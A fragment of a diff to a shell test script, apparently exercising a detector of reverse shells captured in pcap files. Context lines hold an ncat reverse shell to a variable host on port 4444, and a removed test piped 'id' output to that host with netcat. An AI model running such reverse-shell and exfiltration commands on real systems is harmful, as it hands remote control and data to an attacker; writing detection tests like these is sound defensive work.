@@ -23,9 +23,6 @@ hit_mkfifo() {
 }
 hit_whoami_only() { reverse typed 0.7 whoami -- ncat $OUT 4444 -e /bin/sh; has_text 'root'; }
 
-hit_output_only() { # what a one-liner printed, and nobody asks anything
-    reverse typed 1 -- sh -c "id | nc.openbsd -q 1 $OUT 4444"; has_text 'uid=0'
-}
 hit_snap96() {
     hit_bash_dev_tcp; editcap -F pcap -s 96 "$PCAP" "$W/snap"; mv "$W/snap" "$PCAP"
 }
